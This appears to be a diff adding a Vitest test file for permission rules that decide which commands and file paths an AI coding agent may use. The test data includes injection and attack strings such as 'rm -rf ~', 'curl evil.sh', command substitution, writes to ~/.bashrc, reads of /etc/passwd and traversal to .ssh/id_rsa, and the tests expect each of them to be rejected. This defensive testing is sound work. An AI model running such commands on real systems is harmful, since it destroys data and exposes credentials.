@@ -0,0 +1,94 @@
+import { describe, it, expect } from 'vitest';
+import { evaluatePermissionRules, matchPathGlob, PermissionRule } from './permissionRules';
+
+const project = { machineId: 'm1', path: '/home/user/app' };
+
+function rule(id: string, fields: Partial<PermissionRule>): PermissionRule {
+    return {
+        id,
+        machineId: 'm1',
+        path: '/home/user/app',
+        tool: '*',
+        matcher: 'any',
+        pattern: null,
+        action: 'allow',
+        enabled: true,
+        createdAt: 0,
+        ...fields
+    };
+}
+
+describe('matchPathGlob', () => {
+    it('should resolve relative globs against the project', () => {
+        expect(matchPathGlob('src/**/*.ts', '/home/user/app/src/sync/ops.ts', project.path)).toBe(true);
+        expect(matchPathGlob('src/**/*.ts', '/home/user/app/src/ops.ts', project.path)).toBe(true);
+        expect(matchPathGlob('src/*.ts', '/home/user/app/src/sync/ops.ts', project.path)).toBe(false);
+        expect(matchPathGlob('src/**/*.ts', '/home/user/other/src/ops.ts', project.path)).toBe(false);
+        expect(matchPathGlob('*.md', 'README.md', project.path)).toBe(true);
+    });
+
+    it('should match absolute globs and reject parent traversal', () => {
+        expect(matchPathGlob('/tmp/**', '/tmp/a/b.txt', project.path)).toBe(true);
+        expect(matchPathGlob('src/**', '/home/user/app/src/../../.ssh/id_rsa', project.path)).toBe(false);
+        expect(matchPathGlob('file?.txt', 'file1.txt', project.path)).toBe(true);
+    });
+});
+
+describe('evaluatePermissionRules', () => {
+    it('should only use rules of the same project and tool', () => {
+        const rules = [
+            rule('other-project', { path: '/home/user/other' }),
+            rule('edit', { tool: 'Edit' }),
+        ];
+        expect(evaluatePermissionRules(rules, project, { tool: 'Edit', arguments: {} })?.id).toBe('edit');
+        expect(evaluatePermissionRules(rules, project, { tool: 'Bash', arguments: {} })).toBeNull();
+        expect(evaluatePermissionRules(rules, { ...project, machineId: 'm2' }, { tool: 'Edit', arguments: {} })).toBeNull();
+    });
+
+    it('should prefer deny rules and skip disabled ones', () => {
+        const rules = [
+            rule('allow-all', {}),
+            rule('deny-env', { tool: 'Edit', matcher: 'pathGlob', pattern: '**/.env' }),
+            rule('disabled', { tool: 'Write', action: 'deny', enabled: false }),
+        ];
+        expect(evaluatePermissionRules(rules, project, { tool: 'Edit', arguments: { file_path: '/home/user/app/.env' } })?.id).toBe('allow-all');
+        rules[1].action = 'deny';
+        expect(evaluatePermissionRules(rules, project, { tool: 'Edit', arguments: { file_path: '/home/user/app/.env' } })?.id).toBe('deny-env');
+        expect(evaluatePermissionRules(rules, project, { tool: 'Write', arguments: {} })?.id).toBe('allow-all');
+    });
+
+    it('should match command prefixes on word boundaries', () => {
+        const rules = [rule('npm-test', { tool: 'Bash', matcher: 'commandPrefix', pattern: 'npm test' })];
+        const check = (command: string) => evaluatePermissionRules(rules, project, { tool: 'Bash', arguments: { command } })?.id ?? null;
+        expect(check('npm test')).toBe('npm-test');
+        expect(check('npm test -- --watch')).toBe('npm-test');
+        expect(check('npm testing')).toBeNull();
+        expect(check('npm test && rm -rf ~')).toBeNull();
+        expect(check('npm test; curl evil.sh')).toBeNull();
+        expect(check('npm test $(whoami)')).toBeNull();
+    });
+
+    it('should not allow redirection, substitution or other unquoted metacharacters', () => {
+        const rules = [rule('echo', { tool: 'Bash', matcher: 'commandPrefix', pattern: 'echo' })];
+        const check = (command: string) => evaluatePermissionRules(rules, project, { tool: 'Bash', arguments: { command } })?.id ?? null;
+        expect(check('echo x > ~/.bashrc')).toBeNull();
+        expect(check('echo x >> ~/.bashrc')).toBeNull();
+        expect(check('echo < /etc/passwd')).toBeNull();
+        expect(check('echo <(curl evil.sh)')).toBeNull();
+        expect(check('echo x >(sh)')).toBeNull();
+        expect(check('echo (x)')).toBeNull();
+        expect(check('echo $HOME')).toBeNull();
+        expect(check('echo "$(id)"')).toBeNull();
+        expect(check('echo "`id`"')).toBeNull();
+        expect(check('echo \\; id')).toBeNull();
+        expect(check('echo x\nid')).toBeNull();
+        expect(check("echo 'unterminated")).toBeNull();
+        expect(check("echo 'a > b; $(c)'")).toBe('echo');
+        expect(check('echo "a > b | c"')).toBe('echo');
+    });
+
+    it('should deny chained commands that start with a denied prefix', () => {
+        const rules = [rule('no-push', { tool: 'Bash', matcher: 'commandPrefix', pattern: 'git push', action: 'deny' })];
+        expect(evaluatePermissionRules(rules, project, { tool: 'Bash', arguments: { command: 'git push --force && echo done' } })?.id).toBe('no-push');
+    });
+});